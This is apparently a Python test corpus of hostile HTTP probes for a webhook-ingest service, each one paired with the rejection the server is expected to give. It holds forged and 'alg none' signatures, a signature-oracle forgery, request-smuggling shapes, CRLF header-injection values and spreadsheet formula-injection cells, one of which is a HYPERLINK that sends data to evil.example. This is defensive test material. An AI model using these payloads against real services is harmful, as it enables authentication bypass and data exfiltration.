"""The hostile corpus: authentic requests signed with the test secrets, and what an attacker or
an unlucky platform sends instead. One builder per class of issue #11's "Why".

Every probe says what the FIXED servers must do with it (``Expect``); the runner in
``test_hostile.py`` checks it and fills the table. Loaded by ``conftest.py`` as module
``hostile_corpus``. All addresses are synthetic (example.org and the 555 / 7700 900 ranges).
"""

from __future__ import annotations

import base64
import hashlib
import itertools
import time
from collections.abc import Callable
from dataclasses import dataclass
from enum import Enum
from pathlib import Path
from urllib.parse import quote, urlencode

from consentinel.connectors.auth import (
    basic_auth_header,
    lead_post_signature,
    linkedin_signature,
    mandrill_signature,
    sign_vonage_jwt,
    twilio_signature,
    vonage_sms_signature,
)
from consentinel.streams.events import codec
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec

ROOT = Path(__file__).resolve().parents[2]
DEMO_SECRETS = ROOT / "deploy" / "demo" / "secrets"

# Secrets of the test instances (environment of the ingest subprocess, never a file).
SECRETS = {
    "HOSTILE_TWILIO": "hostile-twilio-auth-token-0001",
    "HOSTILE_VONAGE": "hostile-vonage-signature-secret-0001",
    "HOSTILE_MANDRILL": "hostile-mandrill-webhook-key-0001",
    "HOSTILE_LINKEDIN": "hostile-linkedin-client-secret-0001",
    "HOSTILE_LEADS": "hostile-lead-post-secret-0001",
    "HOSTILE_BREVO": "hostile-brevo-token-0001",
}
TWILIO_URL = "https://hooks.hostile.test/twilio"
MANDRILL_URL = "https://hooks.hostile.test/mandrill"

CONFIG = f"""\
instances:
  - name: sg
    type: sendgrid
    controller: hostile-sendgrid
    secrets:
      verification_key: file:{DEMO_SECRETS / "sendgrid-verification-key"}
  - name: tw
    type: twilio
    controller: hostile-twilio
    public_url: {TWILIO_URL}
    secrets: {{auth_token: env:HOSTILE_TWILIO}}
  - name: vo
    type: vonage
    controller: hostile-vonage
    secrets: {{signature_secret: env:HOSTILE_VONAGE}}
  - name: md
    type: mandrill
    controller: hostile-mandrill
    options: {{webhook_url: "{MANDRILL_URL}"}}
    secrets: {{webhook_key: env:HOSTILE_MANDRILL}}
  - name: li
    type: linkedin_lead_gen
    controller: hostile-linkedin
    secrets: {{client_secret: env:HOSTILE_LINKEDIN}}
  - name: lp
    type: lead_post
    controller: hostile-leads
    secrets: {{signing_secret: env:HOSTILE_LEADS}}
  - name: br
    type: brevo
    controller: hostile-brevo
    secrets: {{token: env:HOSTILE_BREVO}}
"""

# Raw addresses used by the corpus: none may appear in a log line or on a topic.
RAW_ADDRESSES = (
    "ana.hostile@example.org",
    "bo.hostile@example.org",
    "+15555550123",
    "447700900123",
    "connect.body@example.org",
)
MARKER = "hostilemarker"
"""Put in malformed requests' lines, headers and bodies: must never appear in a log."""
SECRET_BODY = b"email=connect.body%40example.org&phone=%2B15555550123&m=hostilemarker"
# Cells a spreadsheet would run as a formula (issue #11: "-1+1", "+A1", fullwidth, leading
# space or newline). Seeded into the console's store; every one must come out neutralized.
CSV_PROBES = (
    "=1+1",
    "-1+1",
    "+A1",
    "@SUM(A1)",
    "\uff1d1+1",
    "\uff0bA1",
    " =1+1",
    "\n=1+1",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
)
KB = 1024
MB = 1024 * 1024


class Expect(Enum):
    """What the fixed servers do with a probe (never a 5xx, whatever it is)."""

    GOOD = "authentic and valid: 2xx, events on the topics, no dead letter"
    UNAUTH = "not authentic: 4xx (401 for a bad signature), nothing on any topic"
    REFUSED = "refused before it could be authenticated (413, 400...): nothing on any topic"
    BAD = "authentic but invalid: 4xx and dead-lettered with a reason, no event"
    ONE_BAD_ITEM = "authentic batch with one bad item: 2xx, that item dead-lettered, the rest in"
    LANDS = "authentic, unusual: either in (2xx with events or a dead letter) or dead-lettered"
    PROTOCOL = "not a webhook at all: any 4xx or a closed connection, nothing on any topic"


@dataclass
class Probe:
    label: str
    build: Callable[[], bytes]  # the raw request, built just before it is sent (fresh stamps)
    expect: Expect
    min_events: int = 1
    target: str = "ingest"  # or "console"
    check: Callable[..., str | None] | None = None  # extra check of the reply: an error or None
    timeout: float = 30.0


@dataclass
class Ctx:
    """What the builders need: ports, the console token and an incident to probe."""

    ingest_port: int
    console_port: int
    token: str
    incident_id: str = ""


_ids = itertools.count(1)


def uid(kind: str) -> str:
    return f"{kind}{int(time.time())}x{next(_ids):05d}"


def http(
    port: int,
    method: str,
    target: str,
    headers: dict[str, str] | None = None,
    body: bytes = b"",
    host: str | None = None,
    length: bool = True,
) -> bytes:
    """Request bytes; ``length=False`` sends the body without a Content-Length (after a CONNECT,
    the bytes that follow the headers are the tunnel's)."""
    lines = [f"{method} {target} HTTP/1.1", f"Host: {host or f'127.0.0.1:{port}'}"]
    lines += [f"{k}: {v}" for k, v in (headers or {}).items()]
    framed = any(k.lower() in ("content-length", "transfer-encoding") for k in headers or {})
    if length and not framed:
        lines.append(f"Content-Length: {len(body)}")
    lines.append("Connection: close")
    return "\r\n".join(lines).encode("utf-8", "surrogateescape") + b"\r\n\r\n" + body


# -- authentic requests, one builder per connector ---------------------------------------------


class Sign:
    """Builds requests exactly as each platform would sign them with the test secrets."""

    def __init__(self, port: int) -> None:
        self.port = port
        pem = (DEMO_SECRETS / "sendgrid-signing-key.pem").read_bytes()
        key = serialization.load_pem_private_key(pem, password=None)
        assert isinstance(key, ec.EllipticCurvePrivateKey)
        self.sendgrid_key = key

    def post(self, instance: str, headers: dict[str, str], body: bytes, query: str = "") -> bytes:
        target = f"/hooks/{instance}" + (f"?{query}" if query else "")
        return http(self.port, "POST", target, headers, body)

    # SendGrid: ECDSA P-256 over timestamp + raw body
    def sendgrid(self, body: bytes, *, stamp: str | None = None) -> bytes:
        stamp = stamp or str(int(time.time()))
        sig = self.sendgrid_key.sign(stamp.encode() + body, ec.ECDSA(hashes.SHA256()))
        headers = {
            "Content-Type": "application/json",
            "X-Twilio-Email-Event-Webhook-Signature": base64.b64encode(sig).decode(),
            "X-Twilio-Email-Event-Webhook-Timestamp": stamp,
        }
        return self.post("sg", headers, body)

    # Twilio: HMAC-SHA1 over the public URL + sorted form params
    def twilio(self, pairs: list[tuple[str, str]], *, raw: bytes | None = None) -> bytes:
        sig = twilio_signature(SECRETS["HOSTILE_TWILIO"], TWILIO_URL, pairs)
        body = raw if raw is not None else urlencode(pairs).encode()
        headers = {"Content-Type": "application/x-www-form-urlencoded", "X-Twilio-Signature": sig}
        return self.post("tw", headers, body)

    # Vonage Messages: HS256 JWT with payload_hash
    def vonage_jwt(self, body: bytes, **claims: object) -> bytes:
        base: dict[str, object] = {
            "iat": int(time.time()),
            "jti": uid("jti"),
            "iss": "Vonage",
            "payload_hash": hashlib.sha256(body).hexdigest(),
            "api_key": "abcd1234",
        }
        base.update(claims)
        token = sign_vonage_jwt(SECRETS["HOSTILE_VONAGE"], base)
        headers = {"Content-Type": "application/json", "Authorization": f"Bearer {token}"}
        return self.post("vo", headers, body)

    def vonage_bearer(self, token: str, body: bytes) -> bytes:
        headers = {"Content-Type": "application/json", "Authorization": f"Bearer {token}"}
        return self.post("vo", headers, body)

    # Vonage SMS: md5hash sig parameter in the query (GET style callbacks)
    def vonage_sms(self, params: dict[str, str]) -> bytes:
        params = dict(params, timestamp=str(int(time.time())))
        params["sig"] = vonage_sms_signature(SECRETS["HOSTILE_VONAGE"], params)
        return http(self.port, "GET", "/hooks/vo?" + urlencode(params))

    # Mandrill: HMAC-SHA1 over the registered URL + "mandrill_events" + value
    def mandrill(self, events_json: bytes) -> bytes:
        value = events_json.decode("utf-8", "replace")  # what the form parser will read
        sig = mandrill_signature(
            SECRETS["HOSTILE_MANDRILL"], MANDRILL_URL, [("mandrill_events", value)]
        )
        body = b"mandrill_events=" + quote(events_json, safe="").encode()
        headers = {"Content-Type": "application/x-www-form-urlencoded", "X-Mandrill-Signature": sig}
        return self.post("md", headers, body)

    # LinkedIn: hex HMAC-SHA256 of "hmacsha256=" + body
    def linkedin(self, body: bytes) -> bytes:
        sig = linkedin_signature(SECRETS["HOSTILE_LINKEDIN"], body)
        return self.post("li", {"Content-Type": "application/json", "X-LI-Signature": sig}, body)

    # Our lead post: t=<unix>,v1=hex HMAC-SHA256(t + "." + body)
    def lead(self, body: bytes, *, stamp: int | None = None) -> bytes:
        sig = lead_post_signature(SECRETS["HOSTILE_LEADS"], body, stamp or int(time.time()))
        headers = {"Content-Type": "application/json", "X-Consentinel-Signature": sig}
        return self.post("lp", headers, body)

    # Brevo: unsigned, a shared token (URL or Basic)
    def brevo(self, body: bytes, *, basic: bool = False) -> bytes:
        if basic:
            auth = basic_auth_header("consentinel", SECRETS["HOSTILE_BREVO"])
            return self.post(
                "br", {"Content-Type": "application/json", "Authorization": auth}, body
            )
        query = "token=" + SECRETS["HOSTILE_BREVO"]
        return self.post("br", {"Content-Type": "application/json"}, body, query)


# -- valid payloads ----------------------------------------------------------------------------


def now_s() -> int:
    return int(time.time())


def sendgrid_event(**override: object) -> dict[str, object]:
    event: dict[str, object] = {
        "email": "ana.hostile@example.org",
        "timestamp": now_s() - 60,
        "event": "delivered",
        "sg_event_id": uid("sg"),
        "sg_message_id": "hostileMsg.filter-0",
        "category": ["newsletter"],
    }
    event.update(override)
    return event


def twilio_status(**override: str) -> list[tuple[str, str]]:
    sid = "SM" + hashlib.md5(uid("tw").encode()).hexdigest()
    params = {
        "MessageSid": sid,
        "SmsSid": sid,
        "MessageStatus": "delivered",
        "SmsStatus": "delivered",
        "AccountSid": "AC22222222222222222222222222222222",
        "From": "+15005550006",
        "To": "+15555550123",
        "NumSegments": "1",
        "NumMedia": "0",
        "ApiVersion": "2010-04-01",
    }
    params.update(override)
    return sorted(params.items())


def twilio_inbound(**override: str) -> list[tuple[str, str]]:
    sid = "SM" + hashlib.md5(uid("twi").encode()).hexdigest()
    params = {
        "MessageSid": sid,
        "SmsSid": sid,
        "SmsStatus": "received",
        "AccountSid": "AC22222222222222222222222222222222",
        "From": "+15555550123",
        "To": "36111",
        "Body": "Hello",
        "NumSegments": "1",
        "NumMedia": "0",
        "ApiVersion": "2010-04-01",
    }
    params.update(override)
    return sorted(params.items())


def vonage_status(**override: object) -> bytes:
    data: dict[str, object] = {
        "message_uuid": "aaaaaaaa-bbbb-4ccc-8ddd-"
        + hashlib.md5(uid("vo").encode()).hexdigest()[:12],
        "to": "447700900123",
        "from": "AcmeShop",
        "timestamp": "2026-01-02T09:00:01.000Z",
        "status": "delivered",
        "channel": "sms",
        "client_ref": "camp-hostile",
    }
    data.update(override)
    return codec.dumps(data)


def vonage_dlr(**override: str) -> dict[str, str]:
    params = {
        "msisdn": "447700900123",
        "to": "AcmeShop",
        "network-code": "23410",
        "messageId": hashlib.md5(uid("dlr").encode()).hexdigest()[:17].upper(),
        "price": "0.03330000",
        "status": "delivered",
        "scts": time.strftime("%y%m%d%H%M", time.gmtime(now_s() - 60)),
        "err-code": "0",
        "api-key": "abcd1234",
        "client-ref": "camp-hostile",
        "message-timestamp": time.strftime("%Y-%m-%d %H:%M:%S", time.gmtime(now_s() - 60)),
    }
    params.update(override)
    return params


def mandrill_event(**override: object) -> dict[str, object]:
    event: dict[str, object] = {
        "event": "send",
        "_id": hashlib.md5(uid("md").encode()).hexdigest(),
        "ts": now_s() - 60,
        "msg": {
            "ts": now_s() - 61,
            "email": "bo.hostile@example.org",
            "sender": "news@shop.example.com",
            "tags": ["receipt"],
            "state": "sent",
        },
    }
    event.update(override)
    return event


def linkedin_response(**override: object) -> dict[str, object]:
    response: dict[str, object] = {
        "id": uid("li"),
        "submittedAt": (now_s() - 60) * 1000,
        "testLead": False,
        "versionedLeadGenFormUrn": "urn:li:versionedLeadGenForm:(urn:li:leadGenForm:7001,3)",
        "formResponse": {
            "answers": [
                {
                    "questionId": 2,
                    "predefinedField": "EMAIL",
                    "answerDetails": {"textQuestionAnswer": {"answer": "ana.hostile@example.org"}},
                }
            ],
            "consentResponses": [{"consentId": 101, "accepted": True}],
        },
    }
    response.update(override)
    return response


def lead(**override: object) -> dict[str, object]:
    data: dict[str, object] = {
        "lead_id": uid("lp"),
        "email": "bo.hostile@example.org",
        "optin_time": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(now_s() - 60)),
        "consent_text": "Yes, Hostile Shop may e-mail me offers.",
        "partners": ["Hostile Shop"],
        "purposes": ["marketing"],
        "channels": ["email"],
    }
    data.update(override)
    return data


def brevo_event(**override: object) -> dict[str, object]:
    ts = now_s() - 60
    event: dict[str, object] = {
        "event": "delivered",
        "email": "bo.hostile@example.org",
        "id": 551200,
        "message-id": f"<{uid('br')}@smtp-relay.example.org>",
        "ts": ts,
        "ts_event": ts,
        "ts_epoch": ts * 1000,
        "tag": "order",
    }
    event.update(override)
    return event


def j(value: object) -> bytes:
    return codec.dumps(value)


# -- the classes -------------------------------------------------------------------------------


def authentic_baseline(s: Sign, ctx: Ctx) -> list[Probe]:
    """One authentic request per connector: proves the signatures of this corpus are right, so
    every 401 below is the check working, not a signing mistake."""
    return [
        Probe("sendgrid", lambda: s.sendgrid(j([sendgrid_event()])), Expect.GOOD),
        Probe("twilio status", lambda: s.twilio(twilio_status()), Expect.GOOD),
        Probe("twilio inbound", lambda: s.twilio(twilio_inbound()), Expect.GOOD),
        Probe("vonage messages (JWT)", lambda: s.vonage_jwt(vonage_status()), Expect.GOOD),
        Probe("vonage SMS DLR (sig)", lambda: s.vonage_sms(vonage_dlr()), Expect.GOOD),
        Probe("mandrill", lambda: s.mandrill(j([mandrill_event()])), Expect.GOOD),
        Probe("linkedin response", lambda: s.linkedin(j(linkedin_response())), Expect.GOOD),
        Probe("lead post", lambda: s.lead(j(lead())), Expect.GOOD),
        Probe("brevo (URL token)", lambda: s.brevo(j(brevo_event())), Expect.GOOD),
        Probe("brevo (Basic)", lambda: s.brevo(j(brevo_event()), basic=True), Expect.GOOD),
    ]


def _linkedin_oracle(s: Sign, ctx: Ctx, code: str) -> bytes:
    return http(s.port, "GET", "/hooks/li?challengeCode=" + quote(code, safe=""))


def forgery(s: Sign, ctx: Ctx) -> list[Probe]:
    """Requests made without the secret: the LinkedIn challenge oracle, then replays, swapped
    bodies and wrong credentials on every connector."""
    body = j(linkedin_response())
    oracle_answers: list[str] = []

    def ask_oracle(code: str) -> Callable[[], bytes]:
        return lambda: _linkedin_oracle(s, ctx, code)

    def remember(reply: object) -> str | None:
        status = getattr(reply, "status", 0)
        if status == 200:
            answer = codec.loads(getattr(reply, "body", b"{}") or b"{}")
            oracle_answers.append(str(answer.get("challengeResponse", "")))
            return "the challenge oracle signed attacker-chosen text (200 with a challengeResponse)"
        return None

    def forged(prefix: bool) -> Callable[[], bytes]:
        def build() -> bytes:
            sig = oracle_answers.pop(0) if oracle_answers else "0" * 64
            value = ("hmacsha256=" if prefix else "") + sig
            return s.post("li", {"Content-Type": "application/json", "X-LI-Signature": value}, body)

        return build

    probes = [
        Probe("linkedin oracle: challengeCode=<body>", ask_oracle(body.decode()), Expect.UNAUTH,
              check=remember),
        Probe("linkedin: POST <body> signed by the oracle", forged(False), Expect.UNAUTH),
        Probe("linkedin oracle: challengeCode=hmacsha256=<body>",
              ask_oracle("hmacsha256=" + body.decode()), Expect.UNAUTH, check=remember),
        Probe("linkedin: POST <body> signed by the oracle (prefixed)", forged(True), Expect.UNAUTH),
        Probe("linkedin oracle: a 36-char non-UUID", ask_oracle("x" * 36), Expect.UNAUTH,
              check=remember),
        Probe("linkedin oracle: 100 KiB code", ask_oracle("a" * 100 * KB), Expect.PROTOCOL),
    ]  # fmt: skip
    sg_body = j([sendgrid_event()])
    probes += [
        Probe("sendgrid: body swapped after signing",
              lambda: s.sendgrid(sg_body).replace(b"ana.hostile", b"eve.hostile"), Expect.UNAUTH),
        Probe("sendgrid: stale timestamp (1 h)",
              lambda: s.sendgrid(j([sendgrid_event()]), stamp=str(now_s() - 3600)), Expect.UNAUTH),
        Probe("twilio: wrong token",
              lambda: s.post("tw", {"X-Twilio-Signature": twilio_signature("nope", TWILIO_URL,
                             twilio_status())}, urlencode(twilio_status()).encode()),
              Expect.UNAUTH),
        Probe("vonage: alg none",
              lambda: s.vonage_bearer(_unsigned_jwt({"alg": "none"}), vonage_status()),
              Expect.UNAUTH),
        Probe("vonage: JWT signed with another secret",
              lambda: s.vonage_bearer(sign_vonage_jwt("other", {"iat": now_s(), "payload_hash":
                                      hashlib.sha256(vonage_status()).hexdigest()}),
                                      vonage_status()), Expect.UNAUTH),
        Probe("mandrill: signed for another URL",
              lambda: s.post("md", {"X-Mandrill-Signature": mandrill_signature(
                  SECRETS["HOSTILE_MANDRILL"], "https://evil.example/x",
                  [("mandrill_events", j([mandrill_event()]).decode())])},
                  b"mandrill_events=" + quote(j([mandrill_event()]), safe="").encode()),
              Expect.UNAUTH),
        Probe("lead post: replay 1 h old",
              lambda: s.lead(j(lead()), stamp=now_s() - 3600), Expect.UNAUTH),
        Probe("brevo: wrong token", lambda: s.post("br", {}, j(brevo_event()), "token=nope"),
              Expect.UNAUTH),
        Probe("brevo: no credentials", lambda: s.post("br", {}, j(brevo_event())), Expect.UNAUTH),
    ]  # fmt: skip
    return probes


def _unsigned_jwt(header: dict[str, object]) -> str:
    def b64(data: bytes) -> str:
        return base64.urlsafe_b64encode(data).rstrip(b"=").decode()

    claims = {"iat": now_s(), "payload_hash": "0" * 64}
    return f"{b64(j(header))}.{b64(j(claims))}."


def malformed_signatures(s: Sign, ctx: Ctx) -> list[Probe]:
    """Signature headers that are not signatures: empty, huge, non-ASCII, deep JSON in a JWT."""
    body = j([sendgrid_event()])
    lp = j(lead())
    deep = base64.urlsafe_b64encode(b"[" * 1100).rstrip(b"=").decode()
    values = ["", " ", "é" * 200, "\t", "0" * 7000, "=" * 100, "MEUCIQ" + "A" * 5000, "\x7f"]
    probes = []
    for i, v in enumerate(values):
        probes += [
            Probe(f"sendgrid signature #{i}", lambda v=v: s.post("sg", {
                "X-Twilio-Email-Event-Webhook-Signature": v,
                "X-Twilio-Email-Event-Webhook-Timestamp": str(now_s())}, body), Expect.UNAUTH),
            Probe(f"sendgrid timestamp #{i}", lambda v=v: s.post("sg", {
                "X-Twilio-Email-Event-Webhook-Signature": "MEUCIQ==",
                "X-Twilio-Email-Event-Webhook-Timestamp": v}, body), Expect.UNAUTH),
            Probe(f"lead post header #{i}", lambda v=v: s.post("lp", {
                "X-Consentinel-Signature": f"t={now_s()},v1={v}"}, lp), Expect.UNAUTH),
            Probe(f"linkedin header #{i}", lambda v=v: s.post("li", {"X-LI-Signature": v}, lp),
                  Expect.UNAUTH),
            Probe(f"twilio header #{i}", lambda v=v: s.post("tw", {"X-Twilio-Signature": v},
                  b"MessageSid=SM1"), Expect.UNAUTH),
        ]  # fmt: skip
    probes += [
        Probe("vonage: JWT header of 1,100 '['",
              lambda: s.vonage_bearer(f"{deep}.e30.AAAA", vonage_status()), Expect.UNAUTH),
        Probe("vonage: 3 empty JWT parts", lambda: s.vonage_bearer("..", vonage_status()),
              Expect.UNAUTH),
        Probe("vonage: 7,000-char token",
              lambda: s.vonage_bearer("a" * 3000 + "." + "b" * 3000 + ".c", vonage_status()),
              Expect.UNAUTH),
        Probe("lead post: t= of 400 digits", lambda: s.post("lp", {
            "X-Consentinel-Signature": f"t={'9' * 400},v1={'0' * 64}"}, lp), Expect.UNAUTH),
        Probe("lead post: 1,000 v1 entries", lambda: s.post("lp", {
            "X-Consentinel-Signature": f"t={now_s()}," + ",".join(["v1=00"] * 1000)}, lp),
            Expect.UNAUTH),
        Probe("brevo: Basic of garbage", lambda: s.post("br", {"Authorization": "Basic !!!"},
              j(brevo_event())), Expect.UNAUTH),
        Probe("twilio: Host header '['", lambda: http(s.port, "POST", "/hooks/tw", {
            "X-Twilio-Signature": "x"}, b"MessageSid=SM1", host="["), Expect.UNAUTH),
        Probe("brevo: Host header '[' and a URL token",
              lambda: http(s.port, "POST", "/hooks/br?token=nope", {}, j(brevo_event()),
                           host="[::1"), Expect.UNAUTH),
    ]  # fmt: skip
    return probes


def oversized(s: Sign, ctx: Ctx) -> list[Probe]:
    """Bodies and fields beyond what Kafka can hold (1 MiB records), signed and not."""
    big_category = "c" * (1100 * KB)
    invalid_800k = b"[" + b"x" * (800 * KB)
    return [
        Probe("unsigned 6 MiB body", lambda: s.post("sg", {}, b"[" + b" " * (6 * MB) + b"]"),
              Expect.REFUSED),
        Probe("sendgrid: signed event, 1.1 MB category",
              lambda: s.sendgrid(j([sendgrid_event(category=big_category)])), Expect.LANDS),
        Probe("sendgrid: signed invalid body of 0.8 MB",
              lambda: s.sendgrid(invalid_800k), Expect.BAD),
        Probe("brevo: 1.1 MB tag", lambda: s.brevo(j(brevo_event(tag="t" * (1100 * KB)))),
              Expect.LANDS),
        Probe("lead post: 900 KB consent text",
              lambda: s.lead(j(lead(consent_text="y" * (900 * KB)))), Expect.LANDS),
        Probe("twilio: signed 200 KB form (Twilio sends a few KB)",
              lambda: s.twilio(twilio_status(Body="b" * (200 * KB))), Expect.REFUSED),
        # and afterwards every connector still writes: the shared producer is not closed
        *[Probe(f"after: {p.label}", p.build, p.expect) for p in authentic_baseline(s, ctx)],
    ]  # fmt: skip


def deep_nesting(s: Sign, ctx: Ctx) -> list[Probe]:
    deep = b"[" * 100_000 + b"]" * 100_000
    deep_obj = b'{"a":' * 5000 + b"1" + b"}" * 5000
    return [
        Probe("sendgrid: 100,000 nested arrays", lambda: s.sendgrid(deep), Expect.BAD),
        Probe("sendgrid: 5,000 nested objects in an item",
              lambda: s.sendgrid(b"[" + deep_obj + b"]"), Expect.LANDS),
        Probe("brevo: 100,000 nested arrays", lambda: s.brevo(deep), Expect.BAD),
        Probe("lead post: 5,000 nested objects", lambda: s.lead(deep_obj), Expect.BAD),
        Probe("linkedin: 100,000 nested arrays", lambda: s.linkedin(deep), Expect.BAD),
        Probe("mandrill: 100,000 nested arrays", lambda: s.mandrill(deep), Expect.BAD),
        Probe("vonage: nested JSON body", lambda: s.vonage_jwt(deep), Expect.BAD),
        Probe("unsigned 100,000 nested arrays", lambda: s.post("sg", {}, deep), Expect.UNAUTH),
    ]  # fmt: skip


def huge_integers(s: Sign, ctx: Ctx) -> list[Probe]:
    big = "9" * 30
    return [
        Probe("twilio inbound: NumMedia = 2**64",
              lambda: s.twilio(twilio_inbound(NumMedia=str(2**64))), Expect.LANDS),
        Probe("twilio inbound: NumSegments beyond 64 bits",
              lambda: s.twilio(twilio_inbound(NumSegments=big)), Expect.LANDS),
        Probe("twilio status: NumMedia beyond 64 bits",
              lambda: s.twilio(twilio_status(NumMedia=big)), Expect.LANDS),
        Probe("twilio: NumSegments beyond 64 bits",
              lambda: s.twilio(twilio_status(NumSegments="-" + big)), Expect.LANDS),
        Probe("twilio: NumMedia of 5,000 digits",
              lambda: s.twilio(twilio_status(NumMedia="9" * 5000)), Expect.LANDS),
        Probe("vonage: JWT iat at the int64 limit",
              lambda: s.vonage_jwt(vonage_status(), iat=2**63 - 1), Expect.UNAUTH),
        Probe("vonage: JWT iat beyond 64 bits (raw)", lambda: s.vonage_bearer(
            _raw_signed_jwt(b'{"iat":' + big.encode() + b"}", vonage_status()), vonage_status()),
            Expect.UNAUTH),
        Probe("vonage: JWT exp = 1e400 (raw)", lambda: s.vonage_bearer(
            _raw_signed_jwt(b'{"exp":1' + b"0" * 400 + b"}", vonage_status()), vonage_status()),
            Expect.UNAUTH),
        Probe("sendgrid: timestamp beyond 64 bits",
              lambda: s.sendgrid(b'[{"email":"ana.hostile@example.org","event":"delivered",'
                                 b'"sg_event_id":"' + uid("sg").encode() + b'","timestamp":'
                                 + big.encode() + b"}]"), Expect.LANDS),
        Probe("brevo: ts_epoch of 400 digits",
              lambda: s.brevo(j(brevo_event())[:-1] + b',"ts_epoch":1' + b"0" * 400 + b"}"),
              Expect.LANDS),
        Probe("lead post: a 4,300-digit number",
              lambda: s.lead(j(lead())[:-1] + b',"n":' + b"7" * 4300 + b"}"), Expect.LANDS),
    ]  # fmt: skip


def _raw_signed_jwt(claims: bytes, body: bytes) -> str:
    import hmac as _hmac

    def b64(data: bytes) -> str:
        return base64.urlsafe_b64encode(data).rstrip(b"=").decode()

    claims = claims[:-1] + b',"payload_hash":"' + hashlib.sha256(body).hexdigest().encode() + b'"}'
    head = f"{b64(j({'alg': 'HS256', 'typ': 'JWT'}))}.{b64(claims)}"
    sig = _hmac.new(SECRETS["HOSTILE_VONAGE"].encode(), head.encode(), hashlib.sha256).digest()
    return f"{head}.{b64(sig)}"


def invalid_utf8(s: Sign, ctx: Ctx) -> list[Probe]:
    bad = b"\xff\xfe\xc0\xaf\xed\xa0\x80"
    return [
        Probe("sendgrid: invalid UTF-8 body", lambda: s.sendgrid(b"[" + bad + b"]"), Expect.BAD),
        Probe("sendgrid: invalid UTF-8 in a string",
              lambda: s.sendgrid(j([sendgrid_event()]).replace(b"newsletter", bad)), Expect.LANDS),
        Probe("brevo: invalid UTF-8 e-mail",
              lambda: s.brevo(j(brevo_event()).replace(b"bo.hostile", b"bo" + bad)), Expect.LANDS),
        Probe("twilio: invalid UTF-8 form",
              lambda: s.twilio(twilio_status(),
                               raw=urlencode(twilio_status()).encode() + b"&B=" + bad),
              Expect.UNAUTH),
        Probe("mandrill: invalid UTF-8 events", lambda: s.mandrill(b"[" + bad + b"]"), Expect.BAD),
        Probe("linkedin: lone surrogate escape",
              lambda: s.linkedin(j(linkedin_response()).replace(b"ana.hostile", b"\\udc80ana")),
              Expect.LANDS),
        Probe("vonage SMS: invalid UTF-8 in the query",
              lambda: http(s.port, "GET", "/hooks/vo?msisdn=%FF%FE&sig=00&timestamp=1"),
              Expect.UNAUTH),
    ]  # fmt: skip


def control_characters(s: Sign, ctx: Ctx) -> list[Probe]:
    odd = [
        "ana\x00hostile@example.org",
        "ana.hostile@exa\nmple.org",
        "\u202eana.hostile@example.org",
        "ana.hostile@example.org\r\nBcc: eve@example.org",
        "\u0430na.hostile@example.org",
        " \t ",
        "a" * 300 + "@example.org",
    ]
    probes = [
        Probe(f"sendgrid: e-mail {i}", lambda v=v: s.sendgrid(j([sendgrid_event(email=v)])),
              Expect.LANDS)
        for i, v in enumerate(odd)
    ]  # fmt: skip
    probes += [
        Probe("twilio: To with a NUL", lambda: s.twilio(twilio_status(To="+1555\x005550123")),
              Expect.LANDS),
        Probe("twilio: To with RTL override",
              lambda: s.twilio(twilio_status(To="\u202e+15555550123")),
              Expect.LANDS),
        Probe("lead post: phone with newline",
              lambda: s.lead(j(lead(phone="+1555555\n0123", channels=["sms"]))), Expect.LANDS),
        Probe("vonage: to with control chars",
              lambda: s.vonage_jwt(vonage_status(to="4477\x07009")),
              Expect.LANDS),
    ]  # fmt: skip
    return probes


def batch_with_one_bad_item(s: Sign, ctx: Ctx) -> list[Probe]:
    return [
        Probe("sendgrid: 2 good + 1 without email",
              lambda: s.sendgrid(j([sendgrid_event(), {"event": "delivered", "timestamp": now_s(),
                                   "sg_event_id": uid("sg")}, sendgrid_event()])),
              Expect.ONE_BAD_ITEM, min_events=2),
        Probe("sendgrid: 2 good + 1 not an object",
              lambda: s.sendgrid(j([sendgrid_event(), 42, sendgrid_event()])),
              Expect.ONE_BAD_ITEM, min_events=2),
        Probe("mandrill: 2 good + 1 bad timestamp",
              lambda: s.mandrill(j([mandrill_event(), mandrill_event(ts="yesterday"),
                                   mandrill_event()])), Expect.ONE_BAD_ITEM, min_events=2),
        Probe("brevo: batch, 1 good + 1 without email",
              lambda: s.brevo(j([brevo_event(), {k: v for k, v in brevo_event().items()
                                                 if k != "email"}])),
              Expect.ONE_BAD_ITEM, min_events=1),
    ]  # fmt: skip


def protocol_oddities(s: Sign, ctx: Ctx) -> list[Probe]:
    """Not webhooks at all. CONNECT with a body made aiohttp log the body (address included)."""
    p = s.port
    secret_body = SECRET_BODY
    return [
        Probe("CONNECT with a body", lambda: http(p, "CONNECT", "127.0.0.1:1", {}, secret_body),
              Expect.PROTOCOL),
        Probe("CONNECT, tunnel bytes after the headers",
              lambda: http(p, "CONNECT", "127.0.0.1:1", {}, secret_body, length=False),
              Expect.PROTOCOL),
        Probe("CONNECT to a hook with a body",
              lambda: http(p, "CONNECT", "/hooks/sg", {}, secret_body), Expect.PROTOCOL),
        Probe("absolute-form target", lambda: http(p, "POST", "http://evil.example/hooks/sg", {},
              b"{}"), Expect.PROTOCOL),
        Probe("TRACE", lambda: http(p, "TRACE", "/hooks/sg"), Expect.PROTOCOL),
        Probe("unknown method", lambda: http(p, "BREW", "/hooks/sg", {}, secret_body),
              Expect.PROTOCOL),
        Probe("two Content-Length", lambda: http(p, "POST", "/hooks/sg",
              {"Content-Length": "5", "content-length": "7"}, b"12345"), Expect.PROTOCOL),
        Probe("negative Content-Length", lambda: http(p, "POST", "/hooks/sg",
              {"Content-Length": "-1"}, b"{}"), Expect.PROTOCOL),
        Probe("bad chunked body", lambda: http(p, "POST", "/hooks/sg",
              {"Transfer-Encoding": "chunked"}, b"zz\r\n" + secret_body + b"\r\n0\r\n\r\n"),
              Expect.PROTOCOL),
        Probe("CL and TE together", lambda: http(p, "POST", "/hooks/sg",
              {"Content-Length": "4", "Transfer-Encoding": "chunked"}, b"0\r\n\r\nGET / HTTP/1.1"),
              Expect.PROTOCOL),
        Probe("20 KB URL", lambda: http(p, "GET", "/hooks/sg?" + MARKER * 1600), Expect.PROTOCOL),
        Probe("20 KB header", lambda: http(p, "POST", "/hooks/sg", {"X-Big": MARKER * 1600}, b"{}"),
              Expect.PROTOCOL),
        Probe("500 headers", lambda: http(p, "POST", "/hooks/sg",
              {f"X-H{i}": "v" for i in range(500)}, b"{}"), Expect.PROTOCOL),
        Probe("NUL in the request line",
              lambda: f"GET /hooks/{MARKER}\x00 HTTP/1.1\r\n\r\n".encode(),
